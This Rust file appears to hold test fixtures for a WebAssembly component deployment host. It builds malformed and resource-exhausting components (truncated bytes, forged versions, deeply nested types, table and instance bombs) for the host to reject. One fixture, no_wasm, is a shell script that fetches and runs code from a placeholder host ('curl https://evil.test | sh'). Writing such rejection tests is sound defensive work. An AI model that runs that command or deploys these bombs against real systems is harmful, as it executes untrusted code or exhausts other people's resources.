//! Components that no compiler makes: a harmless target with something added, or bytes that only pretend.

use bowline_guest_artifacts as guests;
use wasm_encoder::{
    Alias, BlockType, CanonicalFunctionSection, CanonicalOption, CodeSection, Component,
    ComponentAliasSection, ComponentExportKind, ComponentExportSection, ComponentInstanceSection,
    ComponentSection, ComponentTypeSection, ComponentValType, ConstExpr, CustomSection, ExportKind,
    ExportSection, Function, FunctionSection, GlobalSection, GlobalType, HeapType, InstanceSection,
    Instruction, Module, ModuleArg, ModuleSection, NestedComponentSection, PrimitiveValType,
    RefType, StartSection, TableSection, TableType, TypeSection, ValType,
};
use wasmparser::{Parser, Payload};

/// A target that reads its settings and does no harm.
fn harmless() -> Vec<u8> {
    guests::reads_settings().to_vec()
}

/// The harmless target with one more section at its end.
fn with(section: &impl ComponentSection) -> Vec<u8> {
    let mut bytes = harmless();
    section.append_to_component(&mut bytes);
    bytes
}

/// The harmless target with one more core module, which it instantiates so often.
fn with_module(module: &Module, times: usize) -> Vec<u8> {
    let index = core_modules(&harmless());
    let mut bytes = with(&ModuleSection(module));
    let mut instances = InstanceSection::new();
    for _ in 0..times {
        instances.instantiate(index, std::iter::empty::<(&str, ModuleArg)>());
    }
    instances.append_to_component(&mut bytes);
    bytes
}

/// How many core modules a component has itself.
fn core_modules(bytes: &[u8]) -> u32 {
    let (mut depth, mut count) = (0, 0);
    for payload in Parser::new(0).parse_all(bytes) {
        match payload.unwrap() {
            Payload::ModuleSection { .. } => {
                count += u32::from(depth == 0);
                depth += 1;
            }
            Payload::ComponentSection { .. } => depth += 1,
            Payload::End(_) => depth -= 1,
            _ => {}
        }
    }
    count
}

/// The target with every occurrence of a text replaced by another of the same length.
fn patched(from: &str, to: &str) -> Vec<u8> {
    let mut bytes = harmless();
    let places: Vec<_> = bytes
        .windows(from.len())
        .enumerate()
        .filter(|(_, window)| *window == from.as_bytes())
        .map(|(place, _)| place)
        .collect();
    assert!(!places.is_empty() && from.len() == to.len());
    for place in places {
        bytes[place..place + to.len()].copy_from_slice(to.as_bytes());
    }
    bytes
}

/// A module with one function of this body, that has no parameters and no results.
fn module(
    locals: u32,
    body: impl FnOnce(&mut Function),
) -> (TypeSection, FunctionSection, CodeSection) {
    let mut types = TypeSection::new();
    types.ty().function([], []);
    let mut functions = FunctionSection::new();
    functions.function(0);
    let mut function = Function::new([(locals, ValType::I32)]);
    body(&mut function);
    function.instruction(&Instruction::End);
    let mut code = CodeSection::new();
    code.function(&function);
    (types, functions, code)
}

pub fn no_wasm() -> Vec<u8> {
    b"#!/bin/sh\ncurl https://evil.test | sh\n".to_vec()
}

pub fn core_module() -> Vec<u8> {
    Module::new().finish()
}

pub fn truncated() -> Vec<u8> {
    let mut bytes = harmless();
    bytes.truncate(bytes.len() / 2);
    bytes
}

pub fn newer_version() -> Vec<u8> {
    patched(
        "bowline:deploy/deploy-target@0.1.0",
        "bowline:deploy/deploy-target@0.2.0",
    )
}

pub fn newer_import() -> Vec<u8> {
    patched(
        "bowline:deploy/environment@0.1.0",
        "bowline:deploy/environment@0.2.0",
    )
}

pub fn foreign_import() -> Vec<u8> {
    patched("wasi:cli/stderr@", "wasi:cli/shells@")
}

pub fn lying_version() -> Vec<u8> {
    let mut types = TypeSection::new();
    types.ty().function([], [ValType::I32]);
    let mut functions = FunctionSection::new();
    functions.function(0);
    let mut exports = ExportSection::new();
    exports.export("f", ExportKind::Func, 0);
    let mut function = Function::new([]);
    function.instruction(&Instruction::I32Const(7));
    function.instruction(&Instruction::End);
    let mut code = CodeSection::new();
    code.function(&function);
    let mut module = Module::new();
    module
        .section(&types)
        .section(&functions)
        .section(&exports)
        .section(&code);

    let mut instances = InstanceSection::new();
    instances.instantiate(0, std::iter::empty::<(&str, ModuleArg)>());
    let mut aliases = ComponentAliasSection::new();
    aliases.alias(Alias::CoreInstanceExport {
        instance: 0,
        kind: ExportKind::Func,
        name: "f",
    });
    let mut types = ComponentTypeSection::new();
    types
        .function()
        .params(std::iter::empty::<(&str, ComponentValType)>())
        .result(Some(PrimitiveValType::U32.into()));
    let mut lifted = CanonicalFunctionSection::new();
    lifted.lift(0, 0, std::iter::empty::<CanonicalOption>());
    let mut interface = ComponentInstanceSection::new();
    let function = ComponentExportKind::Func;
    interface.export_items([("describe", function, 0), ("deploy", function, 0)]);
    let mut exports = ComponentExportSection::new();
    exports.export(
        "bowline:deploy/deploy-target@0.1.0",
        ComponentExportKind::Instance,
        0,
        None,
    );
    let mut component = Component::new();
    component
        .section(&ModuleSection(&module))
        .section(&instances)
        .section(&aliases)
        .section(&types)
        .section(&lifted)
        .section(&interface)
        .section(&exports);
    component.finish()
}

pub fn oversized() -> Vec<u8> {
    with(&CustomSection {
        name: "ballast".into(),
        data: vec![0; 60 << 20].into(),
    })
}

pub fn nested_components() -> Vec<u8> {
    let mut component = Component::new();
    for _ in 0..1_000 {
        let mut outer = Component::new();
        outer.section(&NestedComponentSection(&component));
        component = outer;
    }
    with(&NestedComponentSection(&component))
}

pub fn nested_types() -> Vec<u8> {
    // In a component of its own the indices of its types begin with 0.
    let mut types = ComponentTypeSection::new();
    types.defined_type().primitive(PrimitiveValType::U8);
    for index in 0..10_000 {
        types.defined_type().list(ComponentValType::Type(index));
    }
    let mut component = Component::new();
    component.section(&types);
    with(&NestedComponentSection(&component))
}

pub fn doubling_types() -> Vec<u8> {
    let mut types = ComponentTypeSection::new();
    types.defined_type().primitive(PrimitiveValType::U8);
    for index in 0..60 {
        types
            .defined_type()
            .tuple([ComponentValType::Type(index); 2]);
    }
    let mut component = Component::new();
    component.section(&types);
    with(&NestedComponentSection(&component))
}

pub fn huge_function() -> Vec<u8> {
    laborious(1, 3 << 20)
}

pub fn laborious_functions() -> Vec<u8> {
    laborious(16, 2_000_000)
}

/// So many functions of about that many bytes, in which every step needs the results of others.
fn laborious(functions: u32, size: usize) -> Vec<u8> {
    const LOCALS: u32 = 30;
    let mut function = Function::new([(LOCALS, ValType::I32)]);
    let mut at = 0;
    while function.byte_len() < size {
        at = (at * 7 + 11) % (LOCALS * LOCALS * LOCALS);
        function.instruction(&Instruction::LocalGet(at % LOCALS));
        function.instruction(&Instruction::LocalGet(at / LOCALS % LOCALS));
        function.instruction(&Instruction::I32Mul);
        function.instruction(&Instruction::LocalGet(at / LOCALS / LOCALS));
        function.instruction(&Instruction::I32Xor);
        function.instruction(&Instruction::LocalTee((at + 1) % LOCALS));
        // Or the compiler would see that all of it is for nothing.
        function.instruction(&Instruction::GlobalSet(0));
    }
    function.instruction(&Instruction::End);
    many(functions, &function)
}

pub fn many_functions() -> Vec<u8> {
    let mut function = Function::new([]);
    function.instruction(&Instruction::End);
    many(900_000, &function)
}

/// A module with this function so many times.
fn many(count: u32, function: &Function) -> Vec<u8> {
    let mut types = TypeSection::new();
    types.ty().function([], []);
    let (mut functions, mut code) = (FunctionSection::new(), CodeSection::new());
    for _ in 0..count {
        functions.function(0);
        code.function(function);
    }
    let mut globals = GlobalSection::new();
    let global = GlobalType {
        val_type: ValType::I32,
        mutable: true,
        shared: false,
    };
    globals.global(global, &ConstExpr::i32_const(0));
    let mut module = Module::new();
    module
        .section(&types)
        .section(&functions)
        .section(&globals)
        .section(&code);
    with_module(&module, 1)
}

pub fn table_bomb() -> Vec<u8> {
    let element = RefType::FUNCREF;
    let (types, functions, code) = module(0, |function| {
        function.instruction(&Instruction::Loop(BlockType::Empty));
        function.instruction(&Instruction::RefNull(HeapType::FUNC));
        function.instruction(&Instruction::I32Const(1_000));
        function.instruction(&Instruction::TableGrow(0));
        function.instruction(&Instruction::I32Const(-1));
        function.instruction(&Instruction::I32Ne);
        function.instruction(&Instruction::BrIf(0));
        function.instruction(&Instruction::End);
        function.instruction(&Instruction::Unreachable);
    });
    let mut tables = TableSection::new();
    tables.table(TableType {
        element_type: element,
        table64: false,
        minimum: 1,
        maximum: None,
        shared: false,
    });
    let start = StartSection { function_index: 0 };
    let mut module = Module::new();
    module
        .section(&types)
        .section(&functions)
        .section(&tables)
        .section(&start)
        .section(&code);
    with_module(&module, 1)
}

pub fn instance_bomb() -> Vec<u8> {
    with_module(&Module::new(), 5_000)
}

pub fn tampered() -> Vec<u8> {
    with(&CustomSection {
        name: "note".into(),
        data: b"one byte more".as_slice().into(),
    })
}
